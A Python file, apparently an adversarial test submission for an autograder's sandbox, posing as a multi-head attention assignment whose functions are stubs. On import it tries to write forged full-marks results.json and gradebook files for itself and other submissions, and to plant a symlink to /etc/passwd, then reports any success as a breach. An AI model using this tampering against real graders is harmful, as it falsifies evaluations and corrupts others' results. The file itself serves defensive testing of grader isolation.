"""Attack: knowing where the reports go (OUT, or Gradescope's /autograder/results), write a
full-marks results.json for itself and every other submission, a fake gradebook, and a
symlink that would redirect the grader's own write.

Contained: as root the child runs under a throwaway uid and OUT is closed to others; in the
jail OUT is not even mounted. Reports are written by the grader after the child is gone.
"""

import json
import os

import numpy as np

OUT = "MHSA_OUT"
FAKE = json.dumps({"score": 10.0, "output": "forged", "tests": []})
done: list[str] = []

for folder in (OUT, "/autograder/results"):
    for name in ("gradebook.csv", "results.json"):
        try:
            with open(os.path.join(folder, name), "w") as sink:
                sink.write(FAKE)
            done.append(os.path.join(folder, name))
        except OSError:
            pass
    try:
        for entry in os.listdir(folder):
            target = os.path.join(folder, entry)
            os.makedirs(target, exist_ok=True)
            with open(os.path.join(target, "results.json"), "w") as sink:
                sink.write(FAKE)
            done.append(target)
    except OSError:
        pass
    try:
        os.symlink("/etc/passwd", os.path.join(folder, "overwrite_reports"))
        done.append("symlink in " + folder)
    except OSError:
        pass


def check() -> None:
    if done:
        raise RuntimeError("BREACH wrote " + " ".join(done))


def create_qkv(
    inputs: np.ndarray, weights_q: np.ndarray, weights_k: np.ndarray, weights_v: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    check()
    junk = np.zeros(1)
    return junk, junk, junk


def scaled_dot_product_attention(
    Q: np.ndarray, K: np.ndarray, V: np.ndarray, scale: float
) -> np.ndarray:
    check()
    return np.zeros(1)


def multi_head_attention(
    inputs: np.ndarray,
    weights_q: np.ndarray,
    weights_k: np.ndarray,
    weights_v: np.ndarray,
    num_heads: int,
) -> np.ndarray:
    check()
    return np.zeros(1)
